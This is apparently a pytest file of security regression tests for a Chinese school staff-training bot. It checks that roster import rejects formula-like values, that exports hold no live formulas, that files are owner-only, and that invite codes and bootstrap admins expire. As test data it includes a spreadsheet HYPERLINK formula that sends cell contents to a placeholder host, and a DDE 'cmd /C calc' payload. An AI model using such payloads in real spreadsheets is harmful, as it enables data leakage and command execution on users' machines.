"""Security findings of issue 10, each as it was reproduced: formula injection, files readable by others,
invite codes guessable offline or forever, bootstrap admins that never stop being admins."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import stat
from datetime import datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.cli.main import Context
from knowledge import messages as M
from knowledge.access import Actor, resolve_actor
from knowledge.clock import Clock
from knowledge.invites import BindError, bind_account, issue_codes
from knowledge.keys import Keyring
from knowledge.members import RosterRow
from knowledge.quizzes import QuizQuestion
from knowledge.store import Repository

ROSTER = "姓名,工号,单位,角色,手机\n张老师,T001,城关一小,教师,13800000001\n王局,B001,县教育局,局管理员,\n"
EVIL = '=HYPERLINK("http://x/?"&F5,"张三")'


@pytest.fixture
def cli_env(tmp_path, monkeypatch):
    monkeypatch.setenv("XUEFA_DB", str(tmp_path / "data" / "x.db"))
    monkeypatch.setenv("XUEFA_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")

    def run(*args, clock: Clock | None = None):
        return CliRunner().invoke(cli, list(args), catch_exceptions=False, obj=Context(clock=clock))

    assert run("roster", "import", "roster.csv").exit_code == 0
    return run


def formulas(workbook: bytes) -> list[str]:
    """Return every cell openpyxl would store or read back as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_names_and_units_that_would_run_as_formulas_are_refused_at_import(cli_env, tmp_path):
    buffer = io.StringIO()
    csv.writer(buffer).writerows([
        ["姓名", "工号", "单位", "角色"], [EVIL, "T002", "城关一小", "教师"], ["李四", "T003", "+城关一小", "教师"],
        ["王五", "T004", "@单位", "教师"],
    ])
    (tmp_path / "bad.csv").write_text(buffer.getvalue(), encoding="utf-8")
    result = cli_env("roster", "import", "bad.csv")
    assert result.exit_code == 1
    assert "第2行：姓名不能以 = + - @ 开头，也不能含有控制字符" in result.output
    assert "第3行：单位不能以 = + - @ 开头" in result.output and "第4行：单位不能以 = + - @ 开头" in result.output


def test_no_export_holds_a_live_formula_even_when_the_store_holds_one(cli_env, tmp_path):
    # A name that slipped in before the import check (an older version, an edited database).
    repository = Repository(tmp_path / "data" / "x.db")
    repository.db.execute("UPDATE members SET name = ?, joined_at = '1999-12-01T00:00:00+00:00' WHERE staff_no = 'T001'",
                          [EVIL])
    question = repository.save_question(QuizQuestion("truefalse", "=1+1", ["正确", "错误"], [0], "解析", citation="@x"))
    now = datetime.now(timezone.utc)
    round_id = repository.create_round("L", "2000-W01", "2000-01-01T00:00:00+00:00",
                                       (now - timedelta(days=1)).isoformat(timespec="seconds"), 0.8, [question], 1).id
    member = repository.find_members("T001")[0]
    attempt = repository.start_attempt(round_id, member.id, [(question, [])], "2000-01-01T01:00:00+00:00")
    repository.record_answer(attempt.id, 0, question, [0], True, "2000-01-01T01:01:00+00:00")
    repository.add_session("2000-01-02", "=cmd|' /C calc'!A0", "城关一小", "", "", [member.id], None)
    repository.close()
    year = str(now.astimezone(timezone.utc).year)
    assert cli_env("stats", "--year", year, "--xlsx", "s.xlsx", "--csv", "s.csv").exit_code == 0
    assert cli_env("records", "T001", "--year", "2000", "--xlsx", "r.xlsx").exit_code == 0
    assert cli_env("records", "--unit", "城关一小", "--year", "2000", "--xlsx", "u.xlsx").exit_code == 0
    assert cli_env("member", "export", "T001", "--xlsx", "m.xlsx").exit_code == 0
    for name in ("s.xlsx", "r.xlsx", "u.xlsx", "m.xlsx"):
        data = (tmp_path / name).read_bytes()
        assert formulas(data) == [], name
        book = openpyxl.load_workbook(io.BytesIO(data))
        texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
        assert EVIL in texts, name  # kept as the text it is
    rows = list(csv.reader(io.StringIO((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))))
    assert ["'" + EVIL] == [cell for row in rows for cell in row if EVIL in cell]


def test_the_database_the_key_and_every_export_are_readable_by_their_owner_only(cli_env, tmp_path):
    assert cli_env("roster", "codes").exit_code == 0  # creates the key
    assert cli_env("stats", "--xlsx", "s.xlsx", "--csv", "s.csv", "--chart", "s.png").exit_code == 0
    assert cli_env("records", "T001", "--xlsx", "r.xlsx").exit_code == 0
    assert cli_env("member", "export", "T001", "--json", "m.json").exit_code == 0
    private = [tmp_path / "data" / "x.db", tmp_path / "data" / "secret.key",
               *(tmp_path / name for name in ("s.xlsx", "s.csv", "s.png", "r.xlsx", "m.json"))]
    for path in private:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def test_invite_codes_are_keyed_hashes_that_expire(tmp_path):
    clock = Clock("Asia/Shanghai", datetime(2026, 3, 1, tzinfo=timezone.utc))
    repository = Repository(clock=clock)
    repository.import_roster([RosterRow(2, "T001", "张老师", "城关一小", "teacher")])
    keyring = Keyring.load(tmp_path / "secret.key")
    [issued] = issue_codes(repository, keyring, repository.members(), days=30)
    stored = repository.db.execute("SELECT code_hash, expires_at FROM invite_codes").fetchone()
    # Without the key, the database alone does not let anyone test guesses: not a plain hash of the code.
    assert stored[0] != hashlib.sha256(issued.code.encode()).hexdigest()
    assert stored[0] != Keyring.ephemeral().code(issued.code) and stored[0] == keyring.code(issued.code)
    assert stored[1] == "2026-03-31T00:00:00+00:00"
    clock.pin(datetime(2026, 3, 31, 0, 0, 1, tzinfo=timezone.utc))
    with pytest.raises(BindError, match=M.BIND_EXPIRED_CODE):
        bind_account(repository, keyring, "telegram", "1001", "1001", issued.code)
    # A bound member gets a new code only when asked to rebind.
    clock.pin(datetime(2026, 3, 2, tzinfo=timezone.utc))
    [fresh] = issue_codes(repository, keyring, repository.members())
    bind_account(repository, keyring, "telegram", "1001", "1001", fresh.code)
    assert issue_codes(repository, keyring, repository.members()) == []
    [again] = issue_codes(repository, keyring, repository.members(), rebind=True)
    bound = bind_account(repository, keyring, "telegram", "2002", "2002", again.code)
    assert bound.member.channels == ("telegram",) and bound.replaced_address == "1001"  # the old account is told


def test_someone_already_on_the_web_gets_a_code_only_on_purpose(cli_env, tmp_path):
    # A code signs in on the web and resets an admin's password: a printed slip must not take over an account.
    repository = Repository(tmp_path / "data" / "x.db")
    admin = repository.find_members("B001")[0]
    repository.set_web_password(admin.id, "argon2-hash")
    teacher = repository.find_members("T001")[0]
    repository.add_web_session("h", teacher.id, "teacher", "member", "2099-01-01T00:00:00+00:00", "")
    repository.close()
    assert list(csv.reader(io.StringIO(cli_env("roster", "codes").stdout)))[1:] == []
    rebound = cli_env("roster", "codes", "--rebind")
    assert sorted(row[1] for row in list(csv.reader(io.StringIO(rebound.stdout)))[1:]) == ["张老师", "王局"]
    assert M.CODES_REBINDING.format(n=2) in rebound.stderr


def test_codes_expire_after_the_days_asked_for_on_the_command_line(cli_env):
    clock = Clock("Asia/Shanghai", datetime(2026, 3, 1, 4, 0, tzinfo=timezone.utc))
    result = cli_env("roster", "codes", "--expires", "7", clock=clock)
    [row] = list(csv.reader(io.StringIO(result.stdout)))[1:2]
    assert row[5] == "2026-03-08 12:00"  # seven days on, in the bureau's time
    assert cli_env("roster", "codes", "--expires", "0").exit_code == 1


def test_bootstrap_admins_stop_once_a_bureau_admin_has_bound_and_never_after_deactivation():
    repository = Repository()
    keyring = Keyring.ephemeral()
    BOOT = ("9009", "9010")  # XUEFA_ADMINS
    repository.import_roster([
        RosterRow(2, "B001", "王局", "县教育局", "bureau_admin"), RosterRow(3, "T001", "张老师", "城关一小", "teacher"),
    ])
    assert resolve_actor(repository, keyring, "telegram", "9009", "信息中心", bootstrap=BOOT).role == "bureau_admin"
    assert resolve_actor(repository, keyring, "telegram", "7777", "路人", bootstrap=BOOT) is None
    # The bootstrap admin is also on the roster as a teacher: binding makes them that member.
    teacher = repository.find_members("T001")[0]
    repository.bind_account(teacher.id, "telegram", "9009", "9009", "code", keyring.account("telegram", "9009"))
    assert resolve_actor(repository, keyring, "telegram", "9009", "信息中心", bootstrap=BOOT) == Actor.of(repository.member(teacher.id))
    repository.deactivate_member(teacher.id)  # deactivated: never an admin again, not even a bootstrap one
    assert resolve_actor(repository, keyring, "telegram", "9009", "信息中心", bootstrap=BOOT) is None
    assert resolve_actor(repository, keyring, "telegram", "9010", "另一位", bootstrap=BOOT).role == "bureau_admin"
    boss = repository.find_members("B001")[0]
    repository.bind_account(boss.id, "telegram", "3003", "3003", "code", keyring.account("telegram", "3003"))
    assert resolve_actor(repository, keyring, "telegram", "9010", "另一位", bootstrap=BOOT) is None  # a bureau admin has bound


def test_the_key_file_is_created_private_and_reused(tmp_path):
    path: Path = tmp_path / "secret.key"
    first = Keyring.load(path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600 and len(path.read_bytes()) == 32
    assert Keyring.load(path).code("ABCD234XYZ") == first.code("abcd 234-xyz")
